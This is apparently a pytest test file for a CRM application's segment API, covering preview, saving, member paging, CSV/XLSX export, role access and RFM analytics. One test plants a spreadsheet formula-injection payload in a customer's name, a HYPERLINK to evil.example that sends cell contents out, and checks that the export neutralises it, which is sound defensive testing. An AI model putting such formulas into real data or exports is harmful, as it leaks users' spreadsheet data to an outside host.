"""Segments end to end through the API: preview, save, members, export, edit, refresh, access."""

from __future__ import annotations

import io
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from klientura import segments
from klientura.analytics import Warehouse
from klientura.audit import SYSTEM
from klientura.customers import add_tags
from klientura.kit.shop import Shop
from tests import factories
from tests.analytics.test_scores import Base
from tests.api.conftest import login

TODAY = Shop("RU", "Europe/Moscow", "RUB").today()  # the shop's day, as the app judges it (not the machine's)


@pytest.fixture
def base(app_session: Session, tmp_path: Path) -> dict[str, int]:
    """Five cards in the store; in the warehouse the first three bought, the last two did not."""
    ids = [factories.customer(app_session, last_name=f"Клиент{i}") for i in range(5)]
    add_tags(app_session, SYSTEM, ids[0], ["vip"])
    app_session.commit()
    b = Base()
    for cid in ids:
        b.card(cid)
    for k, cid in enumerate(ids[:3]):
        for n in range(k + 1):
            day = TODAY - timedelta(days=5 + 30 * n)
            b.orders.append((len(b.orders) + 1, cid, day, day, "completed", 100_000, 0, 100_000, False, None, None))
    with Warehouse(tmp_path / "warehouse.duckdb", "sqlite://", timezone="Europe/Moscow") as wh:
        b.load(wh)
        wh.con.execute(f"INSERT INTO tags VALUES ({ids[0]}, 'vip')")
    return {f"c{i}": cid for i, cid in enumerate(ids)}


BOUGHT = {"kind": "orders", "metric": "count", "op": ">=", "value": 1}


def test_preview_save_members_export(api: TestClient, base: dict[str, int]) -> None:
    r = api.post("/api/v1/segments/preview", json={"rule": BOUGHT})
    assert r.status_code == 200, r.text
    assert (r.json()["size"], r.json()["base"]) == (3, 5)
    bad = api.post(
        "/api/v1/segments/preview", json={"rule": {"kind": "orders", "metric": "count", "op": "in", "value": 1}}
    )
    assert bad.status_code == 422 and bad.headers["content-type"] == "application/problem+json"
    assert "needs a list of values" in bad.json()["detail"]
    r = api.post("/api/v1/segments", json={"name": "Покупатели", "rule": BOUGHT})
    assert r.status_code == 201, r.text
    seg = r.json()
    assert seg["size"] == 3 and seg["kind"] == "dynamic" and seg["history"] == [{"day": str(TODAY), "size": 3}]
    assert api.post("/api/v1/segments", json={"name": "покупатели ", "rule": BOUGHT}).status_code == 409
    card = api.get(f"/api/v1/customers/{base['c0']}").json()
    assert card["segments"] == [{"id": seg["id"], "name": "Покупатели"}]
    assert api.get(f"/api/v1/customers/{base['c4']}").json()["segments"] == []
    page = api.get(f"/api/v1/segments/{seg['id']}/members", params={"limit": 2}).json()
    assert page["items"] == [base["c0"], base["c1"]] and page["next_cursor"]
    rest = api.get(f"/api/v1/segments/{seg['id']}/members", params={"cursor": page["next_cursor"]}).json()
    assert rest == {"items": [base["c2"]], "next_cursor": None}
    csv_r = api.get(f"/api/v1/segments/{seg['id']}/export")
    text = csv_r.content.decode("utf-8")
    assert (
        text.startswith("\ufeffid;last_name;first_name") and "Клиент1" in text and len(text.strip().splitlines()) == 4
    )
    assert 'filename="segment-' in csv_r.headers["content-disposition"]
    xlsx = api.get(f"/api/v1/segments/{seg['id']}/export", params={"format": "xlsx"})
    rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("id", "last_name", "first_name") and [r[0] for r in rows[1:]] == [
        base["c0"],
        base["c1"],
        base["c2"],
    ]


def test_edit_static_and_refresh(api: TestClient, app_session: Session, base: dict[str, int], tmp_path: Path) -> None:
    dyn = api.post("/api/v1/segments", json={"name": "Dynamic", "rule": BOUGHT}).json()
    frozen = api.post("/api/v1/segments", json={"name": "Frozen", "rule": BOUGHT, "kind": "static"}).json()
    vip = {"kind": "and", "rules": [BOUGHT, {"kind": "tag", "tag": "vip"}]}
    r = api.patch(f"/api/v1/segments/{dyn['id']}", json={"rule": vip})
    assert r.status_code == 200 and r.json()["size"] == 1
    r = api.patch(f"/api/v1/segments/{frozen['id']}", json={"rule": vip})
    assert r.status_code == 422 and "frozen" in r.json()["detail"]
    with Warehouse(
        tmp_path / "warehouse.duckdb", "sqlite://", timezone="Europe/Moscow"
    ) as wh:  # a new buyer arrives in the warehouse
        wh.con.execute(
            f"INSERT INTO orders VALUES (100, {base['c3']}, current_date, current_date, 'completed', "
            "5000, 0, 5000, false, NULL, NULL)"
        )
        wh.con.execute(f"INSERT INTO tags VALUES ({base['c3']}, 'vip')")
        sizes = segments.refresh_segments(app_session, SYSTEM, wh, TODAY)
    app_session.commit()
    assert sizes == {dyn["id"]: 2, frozen["id"]: 3}
    assert api.delete(f"/api/v1/segments/{dyn['id']}").status_code == 204
    assert [s["name"] for s in api.get("/api/v1/segments").json()["items"]] == ["Frozen"]


def test_roles_and_an_empty_warehouse(
    client: TestClient, users: dict[str, int], base: dict[str, int], tmp_path: Path
) -> None:
    login(client, "analyst@test.local")
    assert client.post("/api/v1/segments/preview", json={"rule": BOUGHT}).json()["size"] == 3
    assert client.post("/api/v1/segments", json={"name": "x", "rule": BOUGHT}).status_code == 403
    login(client, "manager@test.local")
    assert client.post("/api/v1/segments/preview", json={"rule": BOUGHT}).status_code == 403
    (tmp_path / "warehouse.duckdb").unlink()
    login(client, "marketer@test.local")
    r = client.post("/api/v1/segments/preview", json={"rule": BOUGHT})
    assert r.status_code == 422 and "recompute" in r.json()["detail"]


def test_rfm_map_and_migration_through_the_api(api: TestClient, base: dict[str, int]) -> None:
    grid = api.get("/api/v1/analytics/rfm-map").json()
    assert len(grid) == 25 and sum(c["customers"] for c in grid) == 3
    assert abs(sum(c["revenue_share"] for c in grid) - 1) < 1e-9
    moves = api.get(
        "/api/v1/analytics/rfm-migration", params={"start": str(TODAY - timedelta(days=20)), "end": str(TODAY)}
    ).json()
    assert sum(m["customers"] for m in moves) == 3
    assert sum(m["customers"] for m in moves if m["source"] == "none") == 1  # c0 bought first only 5 days ago
    bad = api.get("/api/v1/analytics/rfm-migration", params={"start": str(TODAY), "end": str(TODAY)})
    assert bad.status_code == 422 and "after the first" in bad.json()["detail"]


def test_export_cells_cannot_run(api: TestClient, app_session: Session, base: dict[str, int]) -> None:
    """A last name written as a formula is exported as text: an apostrophe in CSV, a string cell in XLSX (item 8)."""
    from klientura.customers import Customer

    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    card = app_session.get(Customer, base["c0"])
    assert card is not None
    card.last_name, card.first_name = evil, "@SUM(1+1)"
    app_session.commit()
    seg = api.post("/api/v1/segments", json={"name": "Formulas", "rule": BOUGHT}).json()
    text = api.get(f"/api/v1/segments/{seg['id']}/export").content.decode("utf-8-sig")
    row = next(r for r in text.splitlines() if r.startswith(f"{base['c0']};"))
    assert row.split(";")[1:3] == ['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "'@SUM(1+1)"]
    xlsx = api.get(f"/api/v1/segments/{seg['id']}/export", params={"format": "xlsx"})
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    assert ws is not None
    got = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    assert got[base["c0"]][1].value == evil and got[base["c0"]][1].data_type == "s"


def test_segments_and_campaigns_come_in_pages(api: TestClient, app_session: Session, base: dict[str, int]) -> None:
    """/campaigns and /segments returned every row at once (issue 17, item 16): pages with a cursor now."""
    from klientura import campaigns
    from klientura.audit import SYSTEM

    for name in ("Гамма", "Альфа", "Бета", "Дельта", "Альфа 2"):
        seg = factories.static_segment(app_session, [base["c0"]], name=name)
        campaigns.create_campaign(
            app_session, SYSTEM, {"name": name, "segment_id": seg, "variants": [{"name": "A", "text": "x"}]}
        )
    app_session.commit()
    names, cursor = [], None
    for _ in range(5):
        page = api.get("/api/v1/segments", params={"limit": 2, **({"cursor": cursor} if cursor else {})}).json()
        names += [s["name"] for s in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert names == ["Альфа", "Альфа 2", "Бета", "Гамма", "Дельта"] and cursor is None
    first = api.get("/api/v1/campaigns", params={"limit": 3}).json()
    rest = api.get("/api/v1/campaigns", params={"cursor": first["next_cursor"]}).json()
    assert [c["name"] for c in first["items"] + rest["items"]] == ["Альфа 2", "Дельта", "Бета", "Альфа", "Гамма"]
    assert rest["next_cursor"] is None
    assert api.get("/api/v1/campaigns", params={"cursor": "W10"}).status_code == 422  # a forged cursor: "[]"
